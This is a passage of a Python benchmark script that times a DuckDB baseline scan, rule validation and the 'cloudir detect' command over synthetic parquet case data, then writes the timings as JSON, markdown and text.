        parser.error("--rows, --repeat and --workers must be positive")
    out: Path = args.out.resolve()
    out.mkdir(parents=True, exist_ok=True)
    cloudir = cloudir_bin()
    facts = machine(cloudir)

    case_root, manifest = ensure_case(out, args.rows, args.seed, args.workers)
    if args.generate_only:
        return 0
    # the bench writes its timeline as files at the top of the folder (no partitions)
    pattern = str(CasePaths(case_root).timeline / "*.parquet")
    params = {
        "rows": args.rows,
        "seed": args.seed,
        "repeat": args.repeat,
        "nproc": facts["nproc"],
        "case": str(case_root),
        "parquet_files": manifest["parquet_files"],
        "parquet_bytes": manifest["parquet_bytes"],
        "raw_bytes": manifest["raw_bytes"],
        "raw_bytes_per_row": round(manifest["raw_bytes"] / args.rows),
        "attack_rows": manifest["attack_rows"],
        "rows_by_artifact": manifest["rows_by_artifact"],
        "episodes": manifest["episodes"],
        "generator_version": GENERATOR_VERSION,
        "generation_seconds": manifest["generation_seconds"],
        "timeout": args.timeout,
        "max_memory_mib": args.max_memory,
    }
    limits = {"timeout": args.timeout, "max_memory_mib": args.max_memory}

    floor_argv = [sys.executable, "-c", _FLOOR_SCRIPT, pattern, FLOOR_NEEDLE]
    log("warming the page cache: one untimed floor run")
    warm = repeat_measured(floor_argv, "floor warm-up", 1, (0,), **limits)
    if warm.failure:
        raise SystemExit(f"the floor query failed: {warm.failure}")
    log("measuring the floor")
    floor = repeat_measured(floor_argv, "floor", args.repeat, (0,), **limits)
    floor_out = _json_out(floor) or {}
    floor_note = (
        f"count(*) WHERE raw ILIKE '%{FLOOR_NEEDLE}%' = {floor_out.get('count', '?')}; "
        f"query alone {floor_out.get('query_seconds', 0):.2f} s, python + duckdb import "
        f"{floor_out.get('setup_seconds', 0):.2f} s (last run)"
    )

    validate_argv = [cloudir, "rules", "validate", str(builtin_rules_dir()), "--json"]
    log("measuring rule compile (cloudir rules validate)")
    compiled = repeat_measured(
        validate_argv, "rules validate", args.repeat, (0, EXIT_SKIPPED), **limits
    )
    validated = _json_out(compiled) or {}
    compile_note = (
        f"load + convert + test-bind against an empty timeline: "
        f"{_count(validated.get('loaded')) or '?'} load, "
        f"{_count(validated.get('skipped')) or 0} skipped; includes cloudir startup"
    )

    detect_argv = [cloudir, "detect", "--case", str(case_root), "--json"]
    log("measuring cloudir detect")
    detected = repeat_measured(
        detect_argv, "cloudir detect", args.repeat, (0, EXIT_FINDINGS), **limits
    )
    info = detect_summary(detected)
    detect_note = (
        f"{info.get('rules_run', '?')} rules run, {info.get('rules_skipped', '?')} skipped, "
        f"{info.get('findings', '?')} findings over {info.get('matched_events', '?')} events; "
        "startup + compile + scan + findings written"
    )

    rows = [
        BenchRow.of("floor: DuckDB scan, 1 ILIKE on raw",
                    [*floor_argv[:2], "<floor script>", *floor_argv[3:]], floor, args.rows,
                    floor_note),
        BenchRow.of("rule compile (cloudir rules validate)", validate_argv, compiled, 0,
                    compile_note),
        BenchRow.of("cloudir detect (all shipped rules)", detect_argv, detected, args.rows,
                    detect_note),
    ]  # fmt: skip
    targets = evaluate(rows, info)
    profile = None
    if args.per_rule or args.phases_only:
        log("timing each rule alone (--per-rule)")
        profile = profile_engine(case_root, each_rule=not args.phases_only)
    text = render(rows, targets, info, params, profile)

    stem = args.results.resolve() / f"detect-{_label(args.rows)}"
    snippet = markdown(rows, targets, params)
    document = {
        "machine": facts,
        "params": params,
        "rows": [asdict(r) for r in rows],
        "targets": [asdict(t) for t in targets],
        "detect": info,
        "per_rule": profile,
        "markdown": snippet,
    }
    write_results(stem, document, snippet, text)
    log(f"results written to {stem}.json, .md and .txt")
    print(snippet)
    # A missed target is a result, as in ingest_cloudtrail.py; a command that did not
    # complete (crash, timeout, memory) is not, and fails the run.
    return 0 if all(r.status == "ok" for r in rows) else 1


if __name__ == "__main__":
    sys.exit(main())
